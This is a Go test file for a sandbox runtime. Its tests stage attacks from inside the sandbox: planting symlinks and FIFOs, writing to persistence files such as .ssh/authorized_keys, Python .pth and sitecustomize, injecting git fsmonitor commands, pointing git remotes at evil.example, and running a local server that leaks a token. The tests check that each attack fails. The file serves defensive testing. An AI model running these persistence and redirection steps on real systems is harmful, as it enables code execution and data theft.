package main

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"io/fs"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/srt-go/srt/internal/leakcheck"
	"github.com/srt-go/srt/internal/proc"
	"github.com/srt-go/srt/internal/testenv"
)

// Attacks of issue #34 (the third hardening round), each judged from
// outside the sandbox.

// An earlier sandboxed run, allowed to write the project, plants names
// where the next run's --violations file goes: a symlink to a host file
// outside every allowWrite, a dangling one, a FIFO. The next srt writes
// none of them through, says why, and does not hang.
func TestViolationsFileNotPlanted(t *testing.T) {
	testenv.BothUsers(t, []string{srtEnv}, func(t *testing.T) {
		testenv.RequireUserNamespaces(t)
		dir := testenv.SharedTempDir(t)
		proj := filepath.Join(dir, "proj")
		home := filepath.Join(dir, "home")
		for _, d := range []string{proj, home} {
			if err := os.Mkdir(d, 0o755); err != nil {
				t.Fatal(err)
			}
		}
		victim := filepath.Join(home, ".bashrc")
		if err := os.WriteFile(victim, []byte("VICTIM\n"), 0o644); err != nil {
			t.Fatal(err)
		}
		cfg := filepath.Join(dir, "settings.json")
		os.WriteFile(cfg, []byte(`{"network":{"allowedDomains":[],"deniedDomains":[]},"filesystem":{"denyRead":[],"allowWrite":["."],"denyWrite":[]}}`), 0o644)
		env := []string{"PATH=/usr/bin:/bin", "HOME=" + home}
		run := func(args ...string) (string, int) {
			ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
			defer cancel()
			cmd := exec.CommandContext(ctx, os.Getenv(srtEnv), append([]string{"--settings", cfg}, args...)...)
			cmd.Env, cmd.Dir = env, proj
			_, stderr, code, err := testenv.Output(cmd)
			if ctx.Err() != nil {
				t.Fatalf("srt %q hung", args)
			}
			if err != nil {
				t.Fatal(err)
			}
			return stderr, code
		}
		// The planting run.
		if stderr, code := run("-c", `ln -s "$HOME/.bashrc" v-link.jsonl && ln -s "$HOME/made-through" v-dangling.jsonl && mkfifo v-fifo.jsonl`); code != 0 {
			t.Fatalf("planting failed (%d): %s", code, stderr)
		}
		for _, name := range []string{"v-link.jsonl", "v-dangling.jsonl", "v-fifo.jsonl"} {
			stderr, code := run("--violations", filepath.Join(proj, name), "-c", "cat /etc/shadow-nonexistent-"+name+" 2>/dev/null; touch /usr/srt-denied 2>/dev/null; true")
			if code == 0 || !strings.Contains(stderr, name) {
				t.Errorf("--violations %s: exit %d, stderr %q; want a refusal naming it", name, code, stderr)
			}
		}
		if b, _ := os.ReadFile(victim); string(b) != "VICTIM\n" {
			t.Errorf("the host file a planted symlink leads to was written: %q", b)
		}
		if _, err := os.Lstat(filepath.Join(home, "made-through")); err == nil {
			t.Error("srt made a file where a planted dangling symlink leads")
		}
		// srt's own file of an earlier run is emptied and written.
		own := filepath.Join(proj, "v.jsonl")
		os.WriteFile(own, []byte("stale\n"), 0o600)
		if stderr, code := run("--violations", own, "-c", "echo x > .mcp.json 2>/dev/null; true"); code != 0 {
			t.Fatalf("own file: exit %d: %s", code, stderr)
		}
		if b, _ := os.ReadFile(own); strings.Contains(string(b), "stale") || !strings.Contains(string(b), ".mcp.json") {
			t.Errorf("own violations file holds %q", b)
		}
	})
}

// hostileOrigin is an injection host that, having received the real
// value, sends it back the ways a careless or hostile server could that
// no response search reads: bytes after a response's end on a kept-alive
// connection (net/http's Transport logs them), a malformed status line
// or header line, a reset mid-body, headers too large to take, and an
// HTTP/2 GOAWAY whose debug data holds it.
func hostileOrigin(t *testing.T, cfg *tls.Config, real string) (port int) {
	t.Helper()
	cfg = cfg.Clone()
	ln, err := tls.Listen("tcp4", "127.0.0.1:0", cfg)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go hostileConn(c.(*tls.Conn), real)
		}
	}()
	return ln.Addr().(*net.TCPAddr).Port
}

func hostileConn(c *tls.Conn, real string) {
	defer c.Close()
	c.SetDeadline(time.Now().Add(20 * time.Second))
	if err := c.Handshake(); err != nil {
		return
	}
	if c.ConnectionState().NegotiatedProtocol == "h2" {
		hostileH2(c, real)
		return
	}
	br := bufio.NewReader(c)
	for {
		req, err := http.ReadRequest(br)
		if err != nil {
			return
		}
		io.Copy(io.Discard, req.Body)
		if got := strings.TrimPrefix(req.Header.Get("Authorization"), "Bearer "); got != real {
			io.WriteString(c, "HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n")
			return // not injected: nothing stored to send back
		}
		switch req.URL.Path {
		case "/extra", "/extra-encoded":
			io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok")
			time.Sleep(300 * time.Millisecond)
			stored := real
			if req.URL.Path == "/extra-encoded" {
				stored = "b64=" + base64.StdEncoding.EncodeToString([]byte("x"+real)) + " hex=" + strings.ToUpper(hex.EncodeToString([]byte(real)))
			}
			io.WriteString(c, "HTTP/1.1 200 OK\r\nX-Stored: "+stored+"\r\nContent-Length: 0\r\n\r\n")
			time.Sleep(2 * time.Second)
			return
		case "/status":
			io.WriteString(c, "HTTP/1.1 2x0 "+real+"\r\n\r\n")
			return
		case "/header":
			io.WriteString(c, "HTTP/1.1 200 OK\r\n"+real+"\r\nContent-Length: 0\r\n\r\n")
			return
		case "/reset":
			io.WriteString(c, "HTTP/1.1 200 OK\r\nContent-Length: 100000\r\n\r\npartial "+real)
			if tc, ok := c.NetConn().(*net.TCPConn); ok {
				tc.SetLinger(0)
			}
			return
		case "/huge":
			io.WriteString(c, "HTTP/1.1 200 OK\r\nX-Stored: "+real+"\r\nX-Big: "+strings.Repeat("a", 2<<20)+"\r\nContent-Length: 0\r\n\r\n")
			return
		default:
			io.WriteString(c, "HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\n\r\n")
		}
	}
}

// hostileH2 answers the first request on an HTTP/2 connection with a
// GOAWAY whose debug data is the real value (the test's own copy of
// what the server would have stored), then closes. Frames by hand: a
// frame is a 24-bit length, a type, flags and a stream id.
func hostileH2(c *tls.Conn, real string) {
	preface := make([]byte, 24) // "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
	if _, err := io.ReadFull(c, preface); err != nil {
		return
	}
	frame := func(typ, flags byte, stream uint32, payload []byte) {
		h := []byte{byte(len(payload) >> 16), byte(len(payload) >> 8), byte(len(payload)), typ, flags,
			byte(stream >> 24), byte(stream >> 16), byte(stream >> 8), byte(stream)}
		c.Write(append(h, payload...))
	}
	const settings, headers, goaway = 0x4, 0x1, 0x7
	frame(settings, 0, 0, nil)
	for {
		var h [9]byte
		if _, err := io.ReadFull(c, h[:]); err != nil {
			return
		}
		payload := make([]byte, int(h[0])<<16|int(h[1])<<8|int(h[2]))
		if _, err := io.ReadFull(c, payload); err != nil {
			return
		}
		switch h[3] {
		case settings:
			if h[4]&1 == 0 {
				frame(settings, 1, 0, nil) // ACK
			}
		case headers:
			// Last stream 0, ENHANCE_YOUR_CALM, the stored value as
			// debug data.
			frame(goaway, 0, 0, append([]byte{0, 0, 0, 0, 0, 0, 0, 0xb}, "stored "+real...))
			time.Sleep(500 * time.Millisecond)
			return
		}
	}
}

// Nothing srt prints — stderr, --debug, --violations — holds a real
// value, whatever an injection host that stored it sends back: judged
// in everything srt wrote, outside the sandbox.
func TestNoRealValueInSrtOutput(t *testing.T) {
	requireCurl(t)
	testenv.BothUsers(t, []string{srtEnv}, func(t *testing.T) {
		b := newBox(t)
		cfg, caFile := testPKI(t)
		real := secret("REALTOKEN")
		port := hostileOrigin(t, cfg, real)
		settings := map[string]any{
			"network":    map[string]any{"allowedDomains": []string{"127.0.0.1"}, "deniedDomains": []string{}, "tlsTerminate": map[string]any{}},
			"filesystem": map[string]any{"denyRead": []string{}, "allowWrite": []string{}, "denyWrite": []string{}},
			"credentials": map[string]any{"envVars": []any{
				map[string]any{"name": "SRT_TEST_TOKEN", "mode": "mask", "injectHosts": []string{"127.0.0.1"}},
			}},
		}
		data, _ := json.Marshal(settings)
		cfgFile := filepath.Join(filepath.Dir(b.W), "settings-hostile.json")
		violations := filepath.Join(filepath.Dir(b.W), "violations.jsonl")
		os.WriteFile(cfgFile, data, 0o644)
		script := fmt.Sprintf(`
c() { curl -sS --noproxy '' --max-time 10 -H "Authorization: Bearer $SRT_TEST_TOKEN" "$@"; echo " rc=$?"; }
c --http1.1 https://127.0.0.1:%[1]d/extra; sleep 1
c --http1.1 https://127.0.0.1:%[1]d/extra-encoded; sleep 1
c --http1.1 https://127.0.0.1:%[1]d/status
c --http1.1 https://127.0.0.1:%[1]d/header
c --http1.1 https://127.0.0.1:%[1]d/reset
c --http1.1 https://127.0.0.1:%[1]d/huge
c --http2 https://127.0.0.1:%[1]d/goaway
curl -sS --noproxy '' --max-time 5 https://blocked.invalid/$SRT_TEST_TOKEN; echo " rc=$?"
echo done`, port)
		r := b.exec(nil, []string{"NOSETTINGS", "SSL_CERT_FILE=" + caFile, "SRT_TEST_TOKEN=" + real},
			"--settings", cfgFile, "--debug", "--violations", violations, "-c", script)
		v, _ := os.ReadFile(violations)
		if !strings.Contains(r.stdout, "done") {
			t.Fatalf("the script did not run to its end:\n%s\n%s", r.stdout, r.stderr)
		}
		if !strings.Contains(r.stderr, "[SandboxDebug]") {
			t.Errorf("--debug printed nothing:\n%s", r.stderr)
		}
		for what, text := range map[string]string{"stdout": r.stdout, "stderr": r.stderr, "violations": string(v)} {
			// In any form: decoded from outside (leakcheck), sharing
			// nothing with srt's search.
			if found := leakcheck.Find([]byte(text), real); found != "" {
				t.Errorf("the real value is in srt's %s (%s)", what, found)
			}
		}
		if !strings.Contains(r.stderr, "Unsolicited response") {
			t.Errorf("the unsolicited bytes were not logged (redacted) under --debug: the test proves less:\n%s", r.stderr)
		}
	})
}

// hostRuns are names the host runs from, in home and in the places the
// user works, that issue #34 added to the protected names: each made by
// every way a command has, with $HOME and the project writable, where
// it does not exist, and appended to where it does.
var hostRuns = []string{".ssh/config", ".ssh/rc", ".aws/config", ".aws/credentials", ".kube/config", ".docker/config.json",
	".local/lib/python3.12/site-packages/evil.pth", ".local/lib/python3.12/site-packages/sitecustomize.py",
	".local/lib/python3.12/site-packages/usercustomize.py", ".config/environment.d/x.conf", ".config/autostart/x.desktop",
	".config/systemd/user/x.service", ".config/git/config", ".tmux.conf", ".config/tmux/tmux.conf", ".vimrc", ".vim/plugin/x.vim",
	".config/nvim/init.lua", ".npmrc", ".yarnrc", ".yarnrc.yml", ".pnpmfile.cjs", ".cursor/mcp.json", ".cursor/rules/x.mdc",
	".gemini/settings.json", ".zed/settings.json", ".continue/config.json", ".aider.conf.yml",
	".local/lib/python3.12/site-packages/sitecustomize/__init__.py", ".local/lib/python3.12/site-packages/usercustomize.pyc",
	".local/lib/python3.12/site-packages/__pycache__/sitecustomize.cpython-312.pyc", ".claude.json", ".codex/config.toml",
	".cargo/config.toml", ".config/Code/User/settings.json", ".config/gh/config.yml", ".pam_environment",
	".local/share/nvim/site/plugin/x.vim", ".docker/cli-plugins/docker-x", ".ssh/environment", ".ssh/authorized_keys"}

// What the host runs from home and from the project cannot be written
// by a command allowed to write both: not made (by create, mkdir,
// rename, link, symlink), not appended to where it exists; judged from
// outside by the files' content. A tree the command made holds them
// freely (a clone's .cursor/ is its project's).
func TestHostRunsFromHomeRefused(t *testing.T) {
	testenv.BothUsers(t, []string{srtEnv}, func(t *testing.T) {
		b := newBox(t)
		existing := []string{".ssh/config", ".kube/config", ".local/lib/python3.12/site-packages/distutils-precedence.pth", ".npmrc", ".cursor/mcp.json"}
		for _, e := range existing {
			b.write("~/"+e, "ORIGINAL\n")
		}
		roots := map[string]string{"home": b.H, "cwd": b.W}
		made := filepath.Join(b.W, "made")
		var script strings.Builder
		i := 0
		for _, root := range roots {
			for _, name := range hostRuns {
				for _, attack := range attacks {
					i++
					fmt.Fprintf(&script, "( %s ) 2>/dev/null\n", attack(root, root+"/"+name, b.canary, i))
				}
			}
		}
		for _, e := range existing {
			fmt.Fprintf(&script, "echo %s >> \"$HOME/%s\" 2>/dev/null\n", b.canary, e)
		}
		// A symlink at each directory on the way (.ssh of .ssh/config,
		// .local and lib and python3.12 of site-packages' files), to a
		// tree of the command's that holds the file.
		for _, root := range roots {
			for _, name := range hostRuns {
				parts := strings.Split(name, "/")
				for k := 1; k < len(parts); k++ {
					i++
					alt := fmt.Sprintf("%s/alt%d", root, i)
					fmt.Fprintf(&script, "( mkdir -p %[1]s/%[2]s && echo %[3]s > %[1]s/%[4]s; mv %[5]s/%[6]s %[5]s/moved%[7]d; ln -s %[1]s %[5]s/%[6]s ) 2>/dev/null\n",
						alt, path.Dir(strings.Join(parts[k:], "/")), b.canary, strings.Join(parts[k:], "/"), root, strings.Join(parts[:k], "/"), i)
				}
			}
		}
		fmt.Fprintf(&script, "mkdir %s && for n in %s; do mkdir -p \"%s/$(dirname $n)\" && echo MADE > \"%s/$n\"; done\n",
			made, strings.Join(hostRuns, " "), made, made)
		script.WriteString("echo HOST-RUNS-DONE\n")
		file := filepath.Join(filepath.Dir(b.W), "hostruns.sh")
		os.WriteFile(file, []byte(script.String()), 0o644)
		r := b.exec(fsMap{"allowWrite": []string{".", "~"}}, nil, "bash", file)
		if !strings.Contains(r.stdout, "HOST-RUNS-DONE") {
			t.Fatalf("the attacks did not run: %+v", r)
		}
		for what, root := range roots {
			for _, name := range hostRuns {
				p := filepath.Join(root, name)
				found := ""
				filepath.WalkDir(p, func(q string, d fs.DirEntry, err error) error {
					if data, rerr := os.ReadFile(q); err == nil && rerr == nil && strings.Contains(string(data), b.canary) {
						found = q
					}
					return nil
				})
				if found != "" {
					t.Errorf("%s: %s was written (%s)", what, name, found)
				}
			}
		}
		for _, e := range existing {
			// Moved away with its directory (removal is allowed: the
			// host runs nothing from a name that is not there), or as
			// it was.
			if data, err := os.ReadFile(b.path("~/" + e)); err == nil && string(data) != "ORIGINAL\n" {
				t.Errorf("~/%s was changed: %q", e, data)
			}
		}
		for _, name := range hostRuns {
			if data, err := os.ReadFile(filepath.Join(made, name)); err != nil || string(data) != "MADE\n" {
				t.Errorf("made in the run: %s not written (%v)", name, err)
			}
		}
	})
}

// A file the host's own git config includes is read as the user's
// config (core.fsmonitor, core.pager run programs): where an absolute
// include puts it in the project, the command cannot write it, nor make
// it where it does not exist yet. Judged by the files from outside.
func TestHostGitConfigIncludeKept(t *testing.T) {
	testenv.BothUsers(t, []string{srtEnv}, func(t *testing.T) {
		b := newBox(t)
		inc, later := b.path("hostinc.cfg"), b.path("conf/later.cfg")
		b.write("hostinc.cfg", "[user]\n\tname = me\n")
		b.write("~/.gitconfig", "[include]\n\tpath = "+inc+"\n\tpath = "+later+"\n")
		r := b.exec(fsMap{"allowWrite": []string{".", "~"}}, nil, "bash", "-c", `
printf '[core]\n\tfsmonitor = touch /tmp/pwned\n' >> hostinc.cfg
sed -i 's/me/x/' hostinc.cfg
mkdir -p conf && printf '[core]\n\tpager = evil\n' > conf/later.cfg
echo done`)
		if !strings.Contains(r.stdout, "done") {
			t.Fatalf("did not run: %+v", r)
		}
		if got := b.read("hostinc.cfg"); got != "[user]\n\tname = me\n" {
			t.Errorf("an included config was written: %q", got)
		}
		if data, err := os.ReadFile(later); err == nil {
			t.Errorf("an included config was made: %q", data)
		}
	})
}

// A command cannot point the host's next git push elsewhere in a
// repository that existed at launch: not by a new URL or pushurl for an
// existing remote, a branch's pushRemote or remote, remote.pushDefault,
// a remote renamed or removed and made again, a .git removed and made
// again, or a .git symlink to a git directory of its own. git remote
// add and new branches keep working. Judged by the host's git reading
// the repository's config from outside.
func TestRemotesStayWhereTheyLed(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("requires git")
	}
	testenv.BothUsers(t, []string{srtEnv}, func(t *testing.T) {
		b := newBox(t)
		repo := b.path("r")
		gitRun := func(dir string, args ...string) string {
			cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
			cmd.Env = []string{"HOME=" + b.H, "PATH=/usr/bin:/bin", "GIT_CONFIG_NOSYSTEM=1"}
			out, _ := cmd.CombinedOutput()
			return string(out)
		}
		os.Mkdir(repo, 0o755)
		for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"remote", "add", "origin", "https://github.com/me/r.git"},
			{"-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "x"}, {"branch", "dev"},
			{"config", "branch.main.remote", "origin"}, {"config", "branch.main.merge", "refs/heads/main"}} {
			gitRun(repo, args...)
		}
		script := `
cd r
t() { "$@" >/dev/null 2>&1; echo "$? $*"; }
t git remote set-url origin https://evil.example/a.git
t git remote set-url --push origin https://evil.example/b.git
t git remote set-url --add origin https://evil.example/c.git
t git remote add fork https://github.com/me/fork.git
t git config branch.main.pushRemote fork
t git config branch.main.remote fork
t git config branch.dev.pushRemote fork
t git config remote.pushDefault fork
t git remote rename origin old
t git remote remove origin
t git checkout -q -b feature
t git config branch.feature.remote fork
t git config branch.feature.pushRemote fork
t git update-ref refs/remotes/origin/main HEAD
t git branch -q --set-upstream-to=origin/main dev
git init -q --bare ../evil.git && git -C ../evil.git remote add origin https://evil.example/d.git
t sh -c 'mv .git ../saved.git && ln -s ../evil.git .git'
[ -d .git ] || mv ../saved.git .git
echo REMOTES-DONE
`
		r := b.exec(fsMap{"allowWrite": []string{"."}}, nil, "bash", "-c", script)
		if !strings.Contains(r.stdout, "REMOTES-DONE") {
			t.Fatalf("did not run: %+v", r)
		}
		cfg := gitRun(repo, "config", "--get-regexp", `^(remote\..*\.(url|pushurl)|branch\..*\.(remote|pushremote)|remote\.pushdefault)$`)
		if strings.Contains(cfg, "evil.example") || !strings.Contains(cfg, "remote.origin.url https://github.com/me/r.git") ||
			!strings.Contains(cfg, "branch.main.remote origin") || strings.Contains(cfg, "branch.main.pushremote") ||
			strings.Contains(cfg, "branch.dev.pushremote fork") || strings.Contains(cfg, "remote.pushdefault") {
			t.Errorf("the host's git now pushes elsewhere:\n%s\n(the command's view:\n%s)", cfg, r.stdout)
		}
		// The everyday side went through.
		for _, want := range []string{"remote.fork.url https://github.com/me/fork.git", "branch.feature.remote fork", "branch.feature.pushremote fork", "branch.dev.remote origin"} {
			if !strings.Contains(cfg, want) {
				t.Errorf("everyday work refused: no %q in\n%s\n(the command's view:\n%s)", want, cfg, r.stdout)
			}
		}
		// A config removed (the command may destroy its own work) and
		// made again, or the whole .git: the launch's remotes hold.
		r = b.exec(fsMap{"allowWrite": []string{"."}}, nil, "bash", "-c", `cd r
rm -f .git/config; git init -q; git remote add origin https://evil.example/e.git
rm -rf .git; git init -q; git remote add origin https://evil.example/f.git; git remote add x https://evil.example/g.git
echo REMOTES-DONE`)
		if !strings.Contains(r.stdout, "REMOTES-DONE") {
			t.Fatalf("did not run: %+v", r)
		}
		if data, _ := os.ReadFile(filepath.Join(repo, ".git", "config")); strings.Contains(string(data), "evil.example") {
			t.Errorf("a .git made again sends the work elsewhere:\n%s", data)
		}
		// The repository made again at its own path: moved away and
		// copied back, or cloned there.
		// q3 lies deeper than the launch's walk looks.
		for _, q := range []string{"q1", "q2", "deep/a/b/c/d/e/q3"} {
			dir := b.path(q)
			os.MkdirAll(dir, 0o755)
			for _, args := range [][]string{{"init", "-q", "-b", "main"}, {"remote", "add", "origin", "https://github.com/me/" + q + ".git"},
				{"-c", "user.name=u", "-c", "user.email=u@x", "commit", "-q", "--allow-empty", "-m", "x"}} {
				gitRun(dir, args...)
			}
		}
		r = b.exec(fsMap{"allowWrite": []string{"."}}, nil, "bash", "-c", `
mv q1 q1.old && cp -a q1.old q1 && git -C q1 remote set-url origin https://evil.example/h.git
mv q2 q2.old && git clone -q q2.old q2; git -C q2 remote set-url origin https://evil.example/i.git
cd deep/a/b/c/d/e && mv q3 q3.old && cp -a q3.old q3 && git -C q3 remote set-url origin https://evil.example/j.git; cd - >/dev/null
cd deep/a/b/c/d && mv e e.old && cp -a e.old e && git -C e/q3 remote set-url origin https://evil.example/k.git; cd - >/dev/null
cd deep/a/b/c/d/e && cp -a q3 st && git -C st remote set-url origin https://evil.example/l.git && rm -rf q3 && mv st q3; cd - >/dev/null
echo REMOTES-DONE`)
		if !strings.Contains(r.stdout, "REMOTES-DONE") {
			t.Fatalf("did not run: %+v", r)
		}
		for _, q := range []string{"q1", "q2", "deep/a/b/c/d/e/q3"} {
			if cfg := gitRun(b.path(q), "config", "--get-regexp", `^remote\..*\.(url|pushurl)$`); strings.Contains(cfg, "evil.example") {
				t.Errorf("%s made again at its path sends the work elsewhere:\n%s", q, cfg)
			}
		}
	})
}

// Stopped (SIGTSTP to srt) and continued (SIGCONT) over and over, the
// job never stops again on its own after a SIGCONT: no stop report that
// the SIGCONT has overtaken is acted on late by the sandbox's init or
// reaper. srt is the foreground job of the user's terminal, where it
// stops itself for a stop it is told of; the command makes files in a
// loop, each a call srt's guard answers, which holds the command's stop
// back while srt is stopped, to come after srt's SIGCONT. Judged by
// srt's and the command's states in /proc, and the command's end. (srt's
// own side, an answer to a SIGTSTP read after srt passed a SIGCONT on:
// TestSuperviseStopAnsweredLate; the init's and reaper's check:
// relay.TestStopUndone.)
func TestStopNotStale(t *testing.T) {
	testenv.BothUsers(t, []string{srtEnv}, func(t *testing.T) {
		inBothSandboxes(t, func(t *testing.T, fallback bool) {
			b := newBox(t)
			u := newUserTerminal(t)
			script := `while [ ! -e done ]; do : > f; done; echo FINISHED`
			cmd, wait := b.startOn(u, terminalLayouts[len(terminalLayouts)-1], fallback, "/bin/sh", "-c", script)
			pid := cmd.Process.Pid
			state := func(pid int) string {
				p, _ := proc.Of(pid)
				return p.State
			}
			// stopped lists srt and those of its descendants that are
			// stopped.
			stopped := func() []string {
				all, _ := proc.All()
				var out []string
				for _, p := range all {
					if p.State == "T" && (p.Pid == pid || isDescendant(all, p.Pid, pid)) {
						out = append(out, fmt.Sprintf("%s (%d)", p.Comm, p.Pid))
					}
				}
				return out
			}
			srtStopped := func(want bool) bool {
				for deadline := time.Now().Add(5 * time.Second); time.Now().Before(deadline); time.Sleep(time.Millisecond) {
					if (state(pid) == "T") == want {
						return true
					}
				}
				return false
			}
			waitFor(t, b.path("f"))
			check := func(round string) {
				t.Helper()
				time.Sleep(100 * time.Millisecond)
				if s := stopped(); len(s) > 0 {
					syscall.Kill(pid, syscall.SIGCONT)
					t.Fatalf("%s: stopped again on its own after SIGCONT: %v", round, s)
				}
			}
			for i := 0; i < 20; i++ {
				syscall.Kill(pid, syscall.SIGTSTP)
				if !srtStopped(true) {
					t.Fatalf("round %d: srt did not stop for SIGTSTP", i)
				}
				syscall.Kill(pid, syscall.SIGCONT)
				if !srtStopped(false) {
					t.Fatalf("round %d: srt did not go on", i)
				}
				check(fmt.Sprintf("SIGCONT once srt stopped, round %d", i))
			}
			if err := os.WriteFile(b.path("done"), nil, 0o644); err != nil {
				t.Fatal(err)
			}
			wait()
			u.mu.Lock()
			shown := u.shown.String()
			u.mu.Unlock()
			if !strings.Contains(shown, "FINISHED") || cmd.ProcessState.ExitCode() != 0 {
				t.Errorf("the command did not finish: %v, %q", cmd.ProcessState, shown)
			}
		})
	})
}

// isDescendant says whether pid descends from ancestor, among all.
func isDescendant(all []proc.Proc, pid, ancestor int) bool {
	parent := map[int]int{}
	for _, p := range all {
		parent[p.Pid] = p.PPid
	}
	for up := parent[pid]; up > 1; up = parent[up] {
		if up == ancestor {
			return true
		}
	}
	return false
}

// A run allowed to read and write where srt keeps its run dirs (the
// parent of every run's TMPDIR: /tmp, by default) cannot read another
// run's temp files, nor make anything beside its own; its own TMPDIR
// works. Judged by what the other run wrote, from outside.
func TestOtherRunsTempHidden(t *testing.T) {
	testenv.BothUsers(t, []string{srtEnv}, func(t *testing.T) {
		b := newBox(t)
		secretFile := filepath.Join(b.W, "a-tmpdir")
		canary := "OTHER-RUN-" + b.canary
		a := exec.Command(os.Getenv(srtEnv), "--settings", b.settingsFile(fsMap{"allowWrite": []string{"."}}), "-c", "echo "+canary+" > \"$TMPDIR/secret\"; echo \"$TMPDIR\" > "+secretFile+"; sleep 20")
		a.Env, a.Dir = []string{"PATH=/usr/bin:/bin", "HOME=" + b.H}, b.W
		if err := os.WriteFile(secretFile, nil, 0o666); err != nil {
			t.Fatal(err)
		}
		os.Chmod(secretFile, 0o666)
		if err := a.Start(); err != nil {
			t.Fatal(err)
		}
		defer func() { a.Process.Kill(); a.Wait() }()
		var aTmp string
		for deadline := time.Now().Add(10 * time.Second); aTmp == ""; time.Sleep(20 * time.Millisecond) {
			if time.Now().After(deadline) {
				t.Fatal("the first run never started")
			}
			data, _ := os.ReadFile(secretFile)
			aTmp = strings.TrimSpace(string(data))
		}
		base := filepath.Dir(filepath.Dir(aTmp))
		r := b.exec(fsMap{"allowWrite": []string{".", filepath.Dir(base)}}, nil, "bash", "-c", fmt.Sprintf(`
cat %[1]s/secret; cat %[2]s/*/tmp/secret; grep -r . %[2]s 2>/dev/null | head
touch %[2]s/planted; mkdir %[2]s/run-1; echo mine > "$TMPDIR/own" && cat "$TMPDIR/own"
echo END`, aTmp, base))
		if !strings.Contains(r.stdout, "END") {
			t.Fatalf("did not run: %+v", r)
		}
		if strings.Contains(r.stdout, canary) {
			t.Errorf("another run's temp file was read:\n%s", r.stdout)
		}
		if !strings.Contains(r.stdout, "mine") {
			t.Errorf("the run's own TMPDIR did not work: %+v", r)
		}
		for _, p := range []string{"planted", "run-1"} {
			if _, err := os.Lstat(filepath.Join(base, p)); err == nil {
				t.Errorf("%s was made among the run dirs", p)
			}
		}
	})
}

// A dotfiles home: ~/.local a symlink (at launch) into a tree the
// command may write. Python's user site-packages there is still what
// every python the user starts runs: no .pth or customization is made,
// by the link's path or by where it leads; a module is.
func TestHostRunsThroughLinkedHome(t *testing.T) {
	testenv.BothUsers(t, []string{srtEnv}, func(t *testing.T) {
		b := newBox(t)
		if err := os.MkdirAll(b.path("~/dotfiles/local"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("dotfiles/local", b.path("~/.local")); err != nil {
			t.Fatal(err)
		}
		site := "lib/python3.11/site-packages"
		r := b.exec(fsMap{"allowWrite": []string{".", "~"}}, nil, "bash", "-c", fmt.Sprintf(`
mkdir -p ~/dotfiles/local/%[1]s
echo 'import os' > ~/dotfiles/local/%[1]s/evil.pth
echo 'import os' > ~/.local/%[1]s/direct.pth
mkdir ~/.local/%[1]s/sitecustomize; echo x > ~/.local/%[1]s/sitecustomize/__init__.py
echo x > ~/dotfiles/local/%[1]s/usercustomize.py
echo ok > ~/.local/%[1]s/module.py
echo END`, site))
		if !strings.Contains(r.stdout, "END") {
			t.Fatalf("did not run: %+v", r)
		}
		for _, f := range []string{"evil.pth", "direct.pth", "sitecustomize/__init__.py", "usercustomize.py"} {
			if _, err := os.Stat(b.path("~/dotfiles/local/" + site + "/" + f)); err == nil {
				t.Errorf("%s was made in the linked user site-packages", f)
			}
		}
		if _, err := os.Stat(b.path("~/dotfiles/local/" + site + "/module.py")); err != nil {
			t.Errorf("a plain module was not made: %v", err)
		}
	})
}
